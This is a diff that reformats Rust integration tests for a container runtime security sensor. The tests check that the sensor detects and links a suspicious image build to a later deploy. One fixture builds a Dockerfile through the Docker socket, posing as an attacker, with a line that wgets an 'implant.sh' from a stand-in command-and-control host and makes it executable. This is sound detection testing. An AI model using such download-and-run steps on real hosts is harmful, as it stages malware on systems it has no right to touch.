@@ -12,8 +12,8 @@ use std::path::Path;
 use std::time::Duration;
 
 use sensor_tests::{
-    Cmd, DOCKER_SOCKET, Dockerd, SensorProcess, TestHost, docker_cli, ensure_base_image, remove_image, require_root,
-    run, sensor_bin, unique_tag, workspace_root,
+    Cmd, DOCKER_SOCKET, Dockerd, SensorProcess, TestHost, docker_cli, ensure_base_image,
+    remove_image, require_root, run, sensor_bin, unique_tag, workspace_root,
 };
 use serde_json::Value;
 
@@ -46,12 +46,21 @@ fn assert_records_match_schema(records: &[Value]) {
     let v = schema_validator();
     let mut bad = Vec::new();
     for r in records {
-        let errors: Vec<String> = v.iter_errors(r).map(|e| format!("{} at {}", e, e.instance_path())).collect();
+        let errors: Vec<String> = v
+            .iter_errors(r)
+            .map(|e| format!("{} at {}", e, e.instance_path()))
+            .collect();
         if !errors.is_empty() {
             bad.push(format!("{}: {}\n  {r}", r["kind"], errors.join("; ")));
         }
     }
-    assert!(bad.is_empty(), "{} of {} records do not match the schema:\n{}", bad.len(), records.len(), bad.join("\n"));
+    assert!(
+        bad.is_empty(),
+        "{} of {} records do not match the schema:\n{}",
+        bad.len(),
+        records.len(),
+        bad.join("\n")
+    );
 }
 
 /// `POST /build?t=TAG` with a tar of `dockerfile` as the body, as an attacker with the socket
@@ -60,23 +69,46 @@ fn raw_build(dockerfile: &str, tag: &str) -> String {
     let dir = tempfile::tempdir().unwrap();
     std::fs::write(dir.path().join("Dockerfile"), dockerfile).unwrap();
     let tar = dir.path().join("context.tar");
-    run("tar", &["-C", dir.path().to_str().unwrap(), "-cf", tar.to_str().unwrap(), "Dockerfile"]);
+    run(
+        "tar",
+        &[
+            "-C",
+            dir.path().to_str().unwrap(),
+            "-cf",
+            tar.to_str().unwrap(),
+            "Dockerfile",
+        ],
+    );
     let out = Cmd::new("curl")
-        .args(["-sS", "--fail", "--unix-socket", DOCKER_SOCKET, "-X", "POST"])
+        .args([
+            "-sS",
+            "--fail",
+            "--unix-socket",
+            DOCKER_SOCKET,
+            "-X",
+            "POST",
+        ])
         .args(["-H", "Content-Type: application/x-tar", "--data-binary"])
         .arg(format!("@{}", tar.display()))
         .arg(format!("http://localhost/v1.41/build?t={tag}&rm=1"))
         .timeout(BUILD_TIMEOUT)
         .run();
     let body = String::from_utf8_lossy(&out.stdout).into_owned();
-    assert!(body.contains("Successfully built") || body.contains("aux"), "build failed:\n{body}");
+    assert!(
+        body.contains("Successfully built") || body.contains("aux"),
+        "build failed:\n{body}"
+    );
     assert!(!body.contains("errorDetail"), "build failed:\n{body}");
     body
 }
 
 fn tag_matches(list: &Value, tag: &str) -> bool {
-    list.as_array()
-        .is_some_and(|a| a.iter().any(|t| t.as_str().is_some_and(|t| t == tag || t.ends_with(&format!("/{tag}")))))
+    list.as_array().is_some_and(|a| {
+        a.iter().any(|t| {
+            t.as_str()
+                .is_some_and(|t| t == tag || t.ends_with(&format!("/{tag}")))
+        })
+    })
 }
 
 fn write_policy(dir: &Path, text: &str) -> String {
@@ -104,12 +136,20 @@ fn build_with_outbound_download_then_deploy_is_linked_and_detected() {
     let state = tempfile::tempdir().unwrap();
     let policy = write_policy(state.path(), POLICY);
     let state_dir = state.path().join("state");
-    let args = ["--policy", policy.as_str(), "--state-dir", state_dir.to_str().unwrap()];
+    let args = [
+        "--policy",
+        policy.as_str(),
+        "--state-dir",
+        state_dir.to_str().unwrap(),
+    ];
 
     let mut sensor = SensorProcess::start(&args).unwrap();
     let tag = unique_tag("detect-attack");
     let url = c2.url(8080, "implant.sh");
-    raw_build(&format!("FROM {BASE}\nRUN wget -q -O /implant.sh {url} && chmod +x /implant.sh\n"), &tag);
+    raw_build(
+        &format!("FROM {BASE}\nRUN wget -q -O /implant.sh {url} && chmod +x /implant.sh\n"),
+        &tag,
+    );
 
     // The build, with its outbound connection to the test host, classed by the policy.
     let build = sensor
@@ -128,9 +168,18 @@ fn build_with_outbound_download_then_deploy_is_linked_and_detected() {
         .iter()
         .find(|o| o["dst_addr"] == ip.as_str() && o["dst_port"] == 8080)
         .unwrap_or_else(|| panic!("no outbound connection to {ip}:8080 in {build}"));
-    assert!(to_c2["policy"] == "unknown" || to_c2["policy"] == "denied", "{to_c2}");
-    let image_id =
-        String::from_utf8(run(docker_cli(), &["image", "inspect", "--format", "{{.Id}}", &tag]).stdout).unwrap();
+    assert!(
+        to_c2["policy"] == "unknown" || to_c2["policy"] == "denied",
+        "{to_c2}"
+    );
+    let image_id = String::from_utf8(
+        run(
+            docker_cli(),
+            &["image", "inspect", "--format", "{{.Id}}", &tag],
+        )
+        .stdout,
+    )
+    .unwrap();
     let image_id = image_id.trim().to_string();
 
     // The findings on the build: outbound to a destination outside the allowed registries
@@ -145,8 +194,21 @@ fn build_with_outbound_download_then_deploy_is_linked_and_detected() {
             RECORD_TIMEOUT,
         )
         .unwrap();
-    assert!(f["summary"].as_str().unwrap().contains(&format!("{ip}:8080")), "{f}");
-    assert!(f["details"]["destinations"].as_array().unwrap().iter().any(|d| d["addr"] == ip.as_str()), "{f}");
+    assert!(
+        f["summary"]
+            .as_str()
+            .unwrap()
+            .contains(&format!("{ip}:8080")),
+        "{f}"
+    );
+    assert!(
+        f["details"]["destinations"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|d| d["addr"] == ip.as_str()),
+        "{f}"
+    );
     assert_eq!(f["attack"][0], "T1612");
     assert_eq!(f["analytics"][0], "AN1261");
     sensor
@@ -161,19 +223,35 @@ fn build_with_outbound_download_then_deploy_is_linked_and_detected() {
         .unwrap();
     let first_run = sensor.records();
     assert_eq!(sensor.stop().unwrap().code(), Some(0));
-    assert!(state_dir.join("lineage.json").is_file(), "no lineage store in {}", state_dir.display());
+    assert!(
+        state_dir.join("lineage.json").is_file(),
+        "no lineage store in {}",
+        state_dir.display()
+    );
 
     // A new sensor: the image's lineage must come from the store.
     let sensor = SensorProcess::start(&args).unwrap();
     let name = format!("detect-attack-{}", std::process::id());
     let _guard = ContainerGuard(name.clone());
-    run(docker_cli(), &["run", "-d", "--name", &name, &tag, "sleep", "60"]);
-    let start =
-        sensor.wait_for(|r| r["kind"] == "container_start" && r["name"] == name.as_str(), RECORD_TIMEOUT).unwrap();
+    run(
+        docker_cli(),
+        &["run", "-d", "--name", &name, &tag, "sleep", "60"],
+    );
+    let start = sensor
+        .wait_for(
+            |r| r["kind"] == "container_start" && r["name"] == name.as_str(),
+            RECORD_TIMEOUT,
+        )
+        .unwrap();
     assert_eq!(start["build_id"], build_id.as_str(), "{start}");
     assert_eq!(start["image_id"], image_id.as_str(), "{start}");
     assert_eq!(start["runtime"], "docker");
-    assert!(start["seconds_since_build"].as_u64().is_some_and(|s| s < 600), "{start}");
+    assert!(
+        start["seconds_since_build"]
+            .as_u64()
+            .is_some_and(|s| s < 600),
+        "{start}"
+    );
     assert_eq!(start["client"]["transport"], "unix", "{start}");
     let container_id = start["container_id"].as_str().unwrap().to_string();
 
@@ -190,10 +268,17 @@ fn build_with_outbound_download_then_deploy_is_linked_and_detected() {
     assert_eq!(deploy["build_id"], build_id.as_str());
     // The build also had a non-allowed outbound connection: the stronger severity.
     assert_eq!(deploy["severity"], "high", "{deploy}");
-    assert!(deploy["evidence"]["record_ids"].as_array().is_some_and(|a| !a.is_empty()));
+    assert!(
+        deploy["evidence"]["record_ids"]
+            .as_array()
+            .is_some_and(|a| !a.is_empty())
+    );
     // Nothing was pushed: no AN0946 chain.
     sensor
-        .expect_none(|r| r["kind"] == "finding" && r["rule"] == "build_push_deploy_chain", Duration::from_secs(2))
+        .expect_none(
+            |r| r["kind"] == "finding" && r["rule"] == "build_push_deploy_chain",
+            Duration::from_secs(2),
+        )
         .unwrap();
 
     let mut all = first_run;
@@ -212,17 +297,30 @@ fn build_with_outbound_download_then_deploy_is_linked_and_detected() {
 fn malformed_policy_stops_the_sensor_with_one_clear_line() {
     require_root("running the sensor");
     let dir = tempfile::tempdir().unwrap();
-    let policy = write_policy(dir.path(), "[rules.deploy_soon_after_build]\nwindow_secs = 60\nwindow = 5\n");
+    let policy = write_policy(
+        dir.path(),
+        "[rules.deploy_soon_after_build]\nwindow_secs = 60\nwindow = 5\n",
+    );
     let out = Cmd::new(sensor_bin())
         .args(["run", "--policy", &policy, "--state-dir"])
         .arg(dir.path().join("state"))
         .timeout(Duration::from_secs(30))
         .output()
         .unwrap();
-    assert!(!out.status.success(), "the sensor started with a malformed policy");
-    assert!(out.stdout.is_empty(), "records were written: {}", String::from_utf8_lossy(&out.stdout));
+    assert!(
+        !out.status.success(),
+        "the sensor started with a malformed policy"
+    );
+    assert!(
+        out.stdout.is_empty(),
+        "records were written: {}",
+        String::from_utf8_lossy(&out.stdout)
+    );
     let err = String::from_utf8_lossy(&out.stderr);
-    let line = err.lines().find(|l| l.contains("policy")).unwrap_or_else(|| panic!("stderr: {err}"));
+    let line = err
+        .lines()
+        .find(|l| l.contains("policy"))
+        .unwrap_or_else(|| panic!("stderr: {err}"));
     assert!(line.contains("line 3") && line.contains("window"), "{line}");
 }
 
@@ -233,5 +331,9 @@ fn checked_in_example_policy_validates_with_config_check() {
         .arg(workspace_root().join("deploy/policy.example.toml"))
         .output()
         .unwrap();
-    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
 }
